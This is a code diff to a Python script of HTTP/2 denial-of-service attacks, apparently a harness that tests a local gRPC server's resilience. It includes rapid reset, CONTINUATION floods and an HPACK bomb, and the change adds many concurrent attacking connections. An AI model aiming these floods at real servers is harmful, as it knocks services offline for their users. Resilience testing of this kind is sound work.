@@ -1,7 +1,8 @@
-"""Ways to hurt an HTTP/2 server, each a program: `python attacks.py <name> <socket> <seconds> <uid>`.
+"""Ways to hurt an HTTP/2 server, each a program: `python attacks.py <name> <socket> <seconds> <uid> <connections>`.
 
-An attacker becomes that user, if it may, connects, sends as fast as it can until it is cut, and connects again. It
-prints what it saw, as JSON: how often it was connected and how often it was told to go, with the codes it was told.
+An attacker becomes that user, if it may, connects, sends as fast as it can until it is cut, and connects again; so
+many of them at once. It prints what they saw, as JSON: how often they were connected and how often told to go, with
+the codes that they were told.
 """
 
 from __future__ import annotations
@@ -13,6 +14,8 @@ import struct
 import sys
 import time
 from collections.abc import Callable, Iterator
+from concurrent.futures import ThreadPoolExecutor
+from dataclasses import dataclass, field
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
@@ -22,7 +25,7 @@ def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
     return struct.pack(">HBBBL", len(payload) >> 8, len(payload) & 255, kind, flags, stream) + payload
 
 
-def field(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
+def literal(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
     return (b"\x40" if indexed else b"\x00") + _length(len(name)) + name + _length(len(value)) + value
 
 
@@ -34,7 +37,7 @@ def request(method: bytes, *more: bytes) -> bytes:
     """The header block of a call."""
     fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", method), (b":authority", b"localhost")]
     fields += [(b"te", b"trailers"), (b"content-type", b"application/grpc")]
-    return b"".join(field(*each) for each in fields) + b"".join(more)
+    return b"".join(literal(*each) for each in fields) + b"".join(more)
 
 
 HELLO = PREFACE + frame(SETTINGS, 0, 0)
@@ -56,7 +59,7 @@ def rapid_reset() -> Iterator[bytes]:
 def continuation_flood() -> Iterator[bytes]:
     yield frame(HEADERS, 0, 1, CALL)
     while True:
-        yield frame(CONTINUATION, 0, 1, field(b"x", b"y" * 100)) * 100
+        yield frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100)) * 100
 
 
 def empty_continuation_flood() -> Iterator[bytes]:
@@ -121,7 +124,7 @@ def priority_flood() -> Iterator[bytes]:
 
 
 def hpack_bomb() -> Iterator[bytes]:
-    large = field(b"x-bomb", b"b" * 4000, indexed=True)
+    large = literal(b"x-bomb", b"b" * 4000, indexed=True)
     yield frame(HEADERS, 5, 1, request(b"/test.Service/Echo") + large)
     stream = 3
     while True:  # each byte stands for the four thousand
@@ -233,24 +236,39 @@ ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
 }
 
 
-def attack(name: str, path: str, seconds: float) -> dict[str, object]:
-    until = time.monotonic() + seconds
-    connected, told, codes = 0, 0, set()
+@dataclass
+class Outcome:
+    connected: int = 0
+    told: int = 0
+    codes: set[int] = field(default_factory=set)
+
+
+def attack(name: str, path: str, seconds: float, connections: int) -> dict[str, object]:
+    with ThreadPoolExecutor(connections) as threads:
+        until = time.monotonic() + seconds
+        outcomes = list(threads.map(lambda _: _attack(name, path, until), range(connections)))
+    codes = sorted(set().union(*(outcome.codes for outcome in outcomes)))
+    connected = sum(outcome.connected for outcome in outcomes)
+    return {"connected": connected, "told": sum(outcome.told for outcome in outcomes), "codes": codes}
+
+
+def _attack(name: str, path: str, until: float) -> Outcome:
+    outcome = Outcome()
     while time.monotonic() < until:
         with socket.socket(socket.AF_UNIX) as connection:
             connection.settimeout(0.05)
             try:
                 connection.connect(path)
                 connection.sendall(HELLO)
-                connected += 1
+                outcome.connected += 1
                 _send(connection, ATTACKS[name](), until)
             except OSError:
                 pass
             code = _goodbye(connection)
             if code is not None:
-                told += 1
-                codes.add(code)
-    return {"connected": connected, "told": told, "codes": sorted(codes)}
+                outcome.told += 1
+                outcome.codes.add(code)
+    return outcome
 
 
 def _send(connection: socket.socket, pieces: Iterator[bytes], until: float) -> None:
@@ -290,4 +308,4 @@ if __name__ == "__main__":
         os.setuid(int(sys.argv[4]))
     sys.stdout.write("ready\n")
     sys.stdout.flush()
-    json.dump(attack(sys.argv[1], sys.argv[2], float(sys.argv[3])), sys.stdout)
+    json.dump(attack(sys.argv[1], sys.argv[2], float(sys.argv[3]), int(sys.argv[5])), sys.stdout)
